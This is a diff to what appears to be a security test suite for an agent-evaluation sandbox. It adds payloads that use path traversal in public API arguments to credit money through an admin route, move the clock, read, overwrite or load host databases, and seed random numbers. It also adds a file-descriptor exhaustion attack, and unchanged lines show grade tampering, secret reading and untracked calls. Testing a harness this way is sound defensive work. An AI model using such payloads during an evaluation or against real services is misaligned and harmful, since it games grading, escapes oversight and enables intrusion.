@@ -131,6 +131,10 @@ def _secret(kind: str) -> Callable[[Seen], bool]:
     return lambda seen: any(secret and secret in seen.said for secret in seen.secrets[kind])
 
 
+def _says(text: str) -> Callable[[Seen], bool]:
+    return lambda seen: text in seen.said
+
+
 _CREDIT = "dict(facts.card, amount=90000)"
 _TAKE = "take_money(**facts.card)"
 
@@ -166,6 +170,24 @@ user.save()
         f"ask('admin', 'credit_to_card', **{_CREDIT}); {_TAKE}",
     ),
     (
+        "admin-argument",
+        "the same with a path in the argument of a public API",
+        f"apis.spotify.like_song(song_id='../../admin/credit?x=', **{_CREDIT}); {_TAKE}",
+    ),
+    (
+        "admin-argument-line",
+        "the same with a line of one's own on the socket to the apps",
+        f"ask('spotify', 'like_song', song_id='../../admin/credit?x=', **{_CREDIT}); {_TAKE}",
+    ),
+    (
+        "admin-field",
+        "the same with a field for another argument, which has the path",
+        f"""
+apis.spotify.like_song(song_id='{{more}}', more='../../admin/credit?x=', **{_CREDIT})
+{_TAKE}
+""",
+    ),
+    (
         "admin-card",
         "make a rich card with requester.post",
         """
@@ -190,6 +212,15 @@ _CLOCK = (
 if stock: requester.post("/date_time", data={"date_and_time": "2033-01-01T00:00:00"})
 else:
     raw(op="date_time", date_and_time="2033-01-01T00:00:00", app="date_time", api="post", kwargs={})
+note()
+""",
+    ),
+    (
+        "clock-in-argument",
+        "move the clock with a path in the argument of a public API",
+        """
+then = "2033-01-01T00:00:00"
+ask("spotify", "like_song", song_id="../../date_time?x=", date_and_time=then)
 note()
 """,
     ),
@@ -295,6 +326,46 @@ for line in read(f"/proc/{facts.engine}/maps").splitlines():
     ),
 )
 
+_ROUTES = (
+    (
+        "databases-in-argument",
+        "ask where the databases are, with a path in the argument of a public API",
+        "print(apis.spotify.show_album(album_id='../../dbs?x='))",
+        "task_output",
+    ),
+    (
+        "save-in-argument",
+        "have databases written over a folder of the host, with such a path",
+        """
+print(apis.spotify.like_song(
+    song_id="../../dbs/save?x=", from_db_home_path=f":memory:task{'_'}output-{facts.task_id}",
+    to_db_home_path=os.path.join(facts.task, "dbs"), app_names=["simple_note"], format="changes",
+    delete_if_exists=True))
+""",
+        "Successfully saved",
+    ),
+    (
+        "load-in-argument",
+        "have databases loaded from a folder of the host, with such a path",
+        """
+print(apis.spotify.like_song(song_id="../../dbs?x=", from_db_home_path=facts.saved))
+""",
+        "Successfully reloaded",
+    ),
+    (
+        "seed-in-argument",
+        "seed the engine's random numbers, with such a path",
+        "print(apis.spotify.like_song(song_id='../../seed?x=', seed=7))",
+        '"seed": 7',
+    ),
+    (
+        "other-api-in-argument",
+        "call a public API as another one, with such a path",
+        "print(apis.spotify.show_album(album_id='../genres?x='))",
+        '"jazz"',
+    ),
+)
+
 _GRADE = (
     (
         "saved-databases",
@@ -372,6 +443,22 @@ else:
     for op in ("end", "begin"): raw(op=op, task_id=facts.task_id)
 """,
     ),
+    (
+        "descriptors",
+        "use up the engine's descriptors",
+        """
+if stock:
+    try:
+        while True: os.dup(0)
+    except OSError: pass
+else:
+    array = __import__("array").array("i", [0])
+    with socket.socket(fileno=os.dup(int(sys.argv[2]))) as apps:
+        for _ in range(2000):
+            apps.sendmsg([b"{}\\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array)])
+            apps.recv(1 << 16)
+""",
+    ),
     ("end-sockets", "shut every socket", "for one in sockets(): one.shutdown(2)"),
 )
 
@@ -379,6 +466,7 @@ PAYLOADS: tuple[Payload[Seen], ...] = (
     *(Payload(name, what, code, _rich) for name, what, code in _MONEY),
     *(Payload(name, what, code, _late) for name, what, code in _CLOCK),
     *(Payload(name, what, code, _told) for name, what, code in _SECRETS),
+    *(Payload(name, what, code, _says(text)) for name, what, code, text in _ROUTES),
     *(Payload(name, what, code, _passed) for name, what, code in _GRADE),
     *(Payload(name, what, code, _broken) for name, what, code in _BREAK),
     Payload("untracked", "call an API so that it is not logged", "note(track=False)", _hidden),
